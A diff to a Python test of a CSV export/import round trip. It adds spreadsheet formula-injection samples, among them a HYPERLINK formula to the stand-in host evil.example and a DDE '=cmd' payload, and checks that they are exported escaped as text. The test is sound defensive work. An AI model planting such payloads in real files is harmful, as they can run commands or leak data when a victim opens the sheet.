@@ -71,19 +71,26 @@ def test_failed_import_changes_nothing(store, tmp_path):
 
 @pytest.mark.parametrize("headers", ["en", "zh"])
 def test_export_round_trip_targets(store, tmp_path, headers):
+    hostile = ['=HYPERLINK("http://evil.example/?x","点击")', "=cmd|' /C calc'!A0", "+86-991", "@SUM(1)"]
     rows = [target_row(3, credit=""), target_row(1, name='带,逗号"引号'), target_row(2)]
+    rows += [target_row(4 + i, name=h) for i, h in enumerate(hostile)]
     header = TARGET_HEADER + ["监管标签", "行业代码"]
     path = write_csv(tmp_path / "t.csv", header, [r + ["食品|重点", "F5211"] for r in rows])
     dbsj.import_pool(store, "targets", path)
     out = tmp_path / "out.csv"
-    assert dbsj.export_pool(store, "targets", out, headers=headers) == 3
+    assert dbsj.export_pool(store, "targets", out, headers=headers) == 7
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")
     exported = read_csv(out)
-    assert [r["uscc" if headers == "en" else "统一社会信用代码"] for r in exported] == [uscc(1), uscc(2), uscc(3)]
+    key = "uscc" if headers == "en" else "统一社会信用代码"
+    assert [r[key] for r in exported] == [uscc(i) for i in range(1, 8)]
     assert list(exported[0]) == [c.name if headers == "en" else c.zh for c in dbsj.POOL_COLUMNS["targets"]]
+    # Formula-leading cells are written as text (one ' in front), never as a formula a spreadsheet would run.
+    names = [r["name" if headers == "en" else "企业名称"] for r in exported[3:]]
+    assert names == ["'" + h for h in hostile]
     again = dbsj.import_pool(store, "targets", out)
-    assert (again.read, again.unchanged, again.updated, again.inserted, again.quarantined) == (3, 3, 0, 0, 0)
-    assert dbsj.export_pool(store, "targets", tmp_path / "out2.csv", headers=headers) == 3
+    assert (again.read, again.unchanged, again.updated, again.inserted, again.quarantined) == (7, 7, 0, 0, 0)
+    assert [r[0] for r in store.execute("SELECT name FROM targets ORDER BY uscc").fetchall()][3:] == hostile
+    assert dbsj.export_pool(store, "targets", tmp_path / "out2.csv", headers=headers) == 7
     assert (tmp_path / "out2.csv").read_bytes() == out.read_bytes()
 
 
